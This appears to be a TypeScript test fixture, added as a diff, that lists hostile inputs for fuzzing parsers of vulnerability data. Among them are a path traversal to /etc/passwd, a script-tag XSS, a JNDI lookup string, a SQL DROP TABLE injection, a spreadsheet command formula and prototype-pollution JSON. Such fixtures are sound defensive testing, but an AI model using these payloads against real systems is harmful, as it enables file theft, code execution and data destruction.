@@ -1,0 +1,103 @@
+/** A text that no parser may repeat in an error: mutations put it where values are, in the place of what may be a credential. */
+export const canary = 'kanari-4711-vogel';
+
+/** Names that an object has without being given them. */
+export const hostileKeys = [
+  '__proto__',
+  'constructor',
+  'prototype',
+  'toString',
+  'hasOwnProperty',
+  'length',
+  '',
+  '0',
+];
+
+/** Texts that have broken a reader somewhere: by length, by what they mean to a regular expression or decoder, by what no database holds. */
+export const hostileTexts: readonly string[] = [
+  '',
+  ' ',
+  '\0',
+  'null',
+  '\ud800',
+  'a\udc00b',
+  '%',
+  '%E0%A4%A',
+  '\u202e\ufeff',
+  '__proto__',
+  'toString',
+  canary,
+  `https://user:${canary}@a.example/?token=${canary}#${canary}`,
+  '../../../../etc/passwd',
+  '<script>alert(1)</script>',
+  '${jndi:ldap://a.example}',
+  "'; DROP TABLE findings; --",
+  '=cmd|calc!A0',
+  'pkg:',
+  'pkg:npm',
+  'pkg:npm/%',
+  'pkg:npm/@/@/@',
+  'CVE-',
+  'CWE-99999999999999999999',
+  '9'.repeat(400),
+  '-1',
+  '1e999',
+  '0x10',
+  'NaN',
+  '0000-00-00T00:00:00Z',
+  'CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:U/C:H/I:H/A:H/'.repeat(20),
+  'CVSS:9.9/',
+  ...[
+    'a',
+    ' ',
+    '/',
+    '\\',
+    '-',
+    '.',
+    ':',
+    '@',
+    '%',
+    '(',
+    '[',
+    '{',
+    '"',
+    '\n',
+    '🙂',
+  ].map(part => part.repeat(50_000)),
+  `${'a/'.repeat(30_000)}!`,
+  `${'CVE-2024-1 '.repeat(10_000)}!`,
+  `pkg:npm/${'@a'.repeat(30_000)}`,
+  `${'a@'.repeat(30_000)}example`,
+  `${'<!--'.repeat(20_000)}`,
+  'x'.repeat(1_000_000),
+];
+
+/** JSON as text, because no value in memory is written like that. */
+export const hostileJson: readonly string[] = [
+  '1e999',
+  '-1e999',
+  '-0',
+  '9007199254740993',
+  '9'.repeat(10_000),
+  '0.'.concat('1'.repeat(10_000)),
+  '{"__proto__":{"polluted":true}}',
+  '{"\\u005f_proto__":{"polluted":true},"constructor":{"prototype":{"polluted":true}}}',
+  '{"length":5,"0":"a"}',
+  '{"toString":1,"valueOf":2,"toJSON":3}',
+  '{"a":1,"a":"b","a":[]}',
+  nested('[', ']', 100),
+  nested('{"a":', '}', 100),
+  nested('[', ']', 300),
+  `[${'[],'.repeat(20_000)}[]]`,
+  `{${Array.from({ length: 20_000 }, (_, index) => `"k${index}":0`).join()}}`,
+  '"\\ud800"',
+  '"\\u0000"',
+  '"\\x"',
+  'NaN',
+  'undefined',
+  '[1,]',
+];
+
+function nested(open: string, close: string, depth: number): string {
+  return `${open.repeat(depth)}1${close.repeat(depth)}`;
+}
